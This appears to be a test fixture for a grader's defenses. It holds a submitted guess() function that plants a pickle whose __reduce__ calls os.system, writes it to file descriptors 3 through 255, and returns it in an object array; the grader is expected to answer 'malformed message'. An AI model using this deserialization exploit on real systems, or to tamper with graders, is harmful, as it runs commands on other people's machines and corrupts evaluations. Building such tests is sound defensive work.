"""A pickle that runs a command when it is loaded, as text, as bytes and as a message of its own.
Seen: graders that send results by pickle."""

SUBMISSION = """
import os
import pickle
import struct

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, (f"touch {TARGET.results}/pickled",)


def guess(x):
    text = pickle.dumps(Command())
    for number in range(3, 256):
        try:
            os.write(number, struct.pack("<IQ", len(text), 0) + text)
        except OSError:
            pass
    return np.array([Command()], dtype=object)
"""
TOLD = "malformed message"
